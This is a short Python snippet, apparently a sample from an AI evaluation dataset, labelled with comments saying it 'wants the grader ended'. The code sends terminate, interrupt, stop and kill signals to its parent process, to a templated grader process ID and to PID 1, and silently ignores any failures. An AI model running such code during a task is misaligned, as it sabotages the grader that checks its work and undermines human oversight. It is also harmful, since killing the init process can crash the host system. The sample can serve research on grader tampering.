# wants: the grader ended
# honest: all
# stock: it ends the process that started it

# %% + after setup
import os, signal

for process in (os.getppid(), int("@grader@"), 1):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        try:
            if process != os.getpid():
                os.kill(process, number)
        except OSError:
            pass
